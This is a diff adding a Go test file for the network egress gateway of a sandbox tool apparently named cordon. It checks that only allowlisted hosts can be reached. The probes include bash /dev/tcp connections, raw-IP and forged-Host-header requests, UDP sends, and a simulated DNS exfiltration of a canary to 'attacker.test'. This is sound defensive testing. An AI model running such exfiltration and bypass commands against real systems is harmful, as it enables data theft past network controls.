@@ -1,0 +1,165 @@
+package main
+
+import (
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/miekg/dns"
+)
+
+// upstream is a test server on the host's loopback that answers with a canary.
+func upstream(t *testing.T, canary string) (port int) {
+	t.Helper()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "UPSTREAM-%s host=%s\n", canary, r.Host)
+	}))
+	t.Cleanup(srv.Close)
+	return srv.Listener.Addr().(*net.TCPAddr).Port
+}
+
+// countingDNS is a DNS server on the host's loopback that counts the queries it gets and answers every
+// A query with 127.0.0.1.
+func countingDNS(t *testing.T) (addr string, queries *atomic.Int64) {
+	t.Helper()
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	queries = new(atomic.Int64)
+	srv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
+		queries.Add(1)
+		m := new(dns.Msg)
+		m.SetReply(q)
+		if len(q.Question) == 1 && q.Question[0].Qtype == dns.TypeA {
+			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 5}, A: net.IPv4(127, 0, 0, 1)})
+		}
+		w.WriteMsg(m)
+	})}
+	go srv.ActivateAndServe()
+	t.Cleanup(func() { srv.Shutdown() })
+	return pc.LocalAddr().String(), queries
+}
+
+// egressIdentities are the identities the gateway works for today: root (rootless egress needs the
+// sockets to be created by init inside the sandbox; until then cordon refuses, which is tested below).
+func egressIdentities(t *testing.T, f func(t *testing.T, h *harness)) {
+	forEachIdentity(t, func(t *testing.T, h *harness) {
+		if h.who.uid != 0 {
+			r := h.sandboxed("network:\n  allow: [example.test]\n", "echo STARTED")
+			if r.code != exitCordon || strings.Contains(r.stdout, "STARTED") || !strings.Contains(r.stderr, "network egress needs") {
+				t.Fatalf("rootless with a network section must refuse to start:\n%s", r)
+			}
+			t.Skip("rootless egress is not implemented yet; cordon refuses to start (checked above)")
+		}
+		f(t, h)
+	})
+}
+
+// TestEgressAllowlist: every kind of client reaches an allowed name, through the transparent path and
+// the explicit proxy, and the same probes to a name the policy does not allow fail with the message.
+func TestEgressAllowlist(t *testing.T) {
+	requireTool(t, "curl")
+	requireTool(t, "python3")
+	egressIdentities(t, func(t *testing.T, h *harness) {
+		port := upstream(t, h.canary)
+		want := "UPSTREAM-" + h.canary
+		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1, other.test: 127.0.0.1}\n", port)
+		probes := map[string]string{
+			"curl transparent":  "curl -sS -m 10 --noproxy '*' http://%s:%d/",
+			"curl proxy":        "curl -sS -m 10 http://%s:%d/",
+			"python socket":     `python3 -c 'import socket; s = socket.create_connection(("%s", %d), 10); s.sendall(b"GET / HTTP/1.1\r\nHost: pkg.test\r\nConnection: close\r\n\r\n"); print(s.recv(4096).decode())'`,
+			"bash dev tcp":      `bash -c 'exec 3<>/dev/tcp/%s/%d && printf "GET / HTTP/1.1\r\nHost: pkg.test\r\nConnection: close\r\n\r\n" >&3 && cat <&3'`,
+			"python urllib env": `python3 -c 'import urllib.request; print(urllib.request.urlopen("http://%s:%d/", timeout=10).read().decode())'`,
+		}
+		for name, probe := range probes {
+			t.Run(name, func(t *testing.T) {
+				if r := h.sandboxed(pol, fmt.Sprintf(probe, "pkg.test", port)); !strings.Contains(r.stdout, want) {
+					t.Fatalf("an allowed name was not reached:\n%s", r)
+				}
+				r := h.sandboxed(pol, fmt.Sprintf(probe, "other.test", port))
+				if strings.Contains(r.stdout, want) {
+					t.Fatalf("a name the policy does not allow was reached:\n%s", r)
+				}
+			})
+		}
+		// The denial names the host and the line that would allow it.
+		r := h.sandboxed(pol, fmt.Sprintf("curl -sS -m 10 http://other.test:%d/", port))
+		if !strings.Contains(r.stdout, "other.test") || !strings.Contains(r.stdout, "network.allow") {
+			t.Errorf("the 403 does not say what to allow:\n%s", r)
+		}
+		// The run's audit log has the decisions.
+		if !strings.Contains(r.stderr, "denied") || !strings.Contains(r.stderr, "cordon log") {
+			t.Errorf("no end-of-run network summary:\n%s", r)
+		}
+	})
+}
+
+// TestEgressDeniedPaths: raw IPs, unassigned mapped addresses, UDP and a network-less sandbox.
+func TestEgressDeniedPaths(t *testing.T) {
+	requireTool(t, "curl")
+	requireTool(t, "python3")
+	egressIdentities(t, func(t *testing.T, h *harness) {
+		port := upstream(t, h.canary)
+		want := "UPSTREAM-" + h.canary
+		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1}\n", port)
+		if r := h.sandboxed(pol, fmt.Sprintf("curl -sS -m 10 --noproxy '*' http://pkg.test:%d/", port)); !strings.Contains(r.stdout, want) {
+			t.Fatalf("control: the allowed name does not work:\n%s", r)
+		}
+		for name, probe := range map[string]string{
+			"raw IP":               "curl -sS -m 5 --noproxy '*' http://1.1.1.1:%[1]d/",
+			"unassigned mapped IP": "curl -sS -m 5 --noproxy '*' http://198.18.3.3:%[1]d/",
+			"raw IP via proxy":     "curl -sS -m 5 http://127.0.0.1:%[1]d/",
+			"host header lie":      "curl -sS -m 5 --noproxy '*' -H 'Host: other.test' http://pkg.test:%[1]d/",
+		} {
+			t.Run(name, func(t *testing.T) {
+				if r := h.sandboxed(pol, fmt.Sprintf(probe, port)); strings.Contains(r.stdout, want) {
+					t.Fatalf("reached the upstream:\n%s", r)
+				}
+			})
+		}
+		t.Run("udp", func(t *testing.T) {
+			r := h.sandboxed(pol, `python3 -c '
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    s.sendto(b"x", ("1.1.1.1", 9999)); print("SENT")
+except OSError as e: print("refused", e)
+'`)
+			if strings.Contains(r.stdout, "SENT") {
+				t.Fatalf("UDP left the sandbox:\n%s", r)
+			}
+		})
+		t.Run("no network section", func(t *testing.T) {
+			if r := h.sandboxed("", fmt.Sprintf("curl -sS -m 5 http://pkg.test:%d/", port)); strings.Contains(r.stdout, want) {
+				t.Fatalf("a sandbox without network section reached the upstream:\n%s", r)
+			}
+		})
+	})
+}
+
+// TestDNSExfiltrationCarriesNothing: a query for a name the policy does not know is answered NXDOMAIN
+// inside and never reaches the upstream resolver; an allowed name is resolved upstream (the control).
+func TestDNSExfiltrationCarriesNothing(t *testing.T) {
+	requireTool(t, "curl")
+	egressIdentities(t, func(t *testing.T, h *harness) {
+		addr, queries := countingDNS(t)
+		pol := fmt.Sprintf("network:\n  allow: [allowed.test]\n  dns: {upstream: [%q]}\n", addr)
+		r := h.sandboxed(pol, "getent hosts secret-"+h.canary+".attacker.test; curl -sS -m 5 https://secret2-"+h.canary+".attacker.test/ 2>&1; true")
+		if strings.Contains(r.stdout, "198.18.") {
+			t.Fatalf("a denied name was answered:\n%s", r)
+		}
+		if n := queries.Load(); n != 0 {
+			t.Fatalf("the upstream resolver got %d queries for denied names", n)
+		}
+		// Control: the gateway does resolve an allowed name upstream when the sandbox connects to it.
+		h.sandboxed(pol, "curl -sS -m 5 --noproxy '*' https://allowed.test/ 2>&1; true")
+		if queries.Load() == 0 {
+			t.Fatal("control: the upstream resolver saw no query for an allowed name, so the test proves nothing")
+		}
+	})
+}
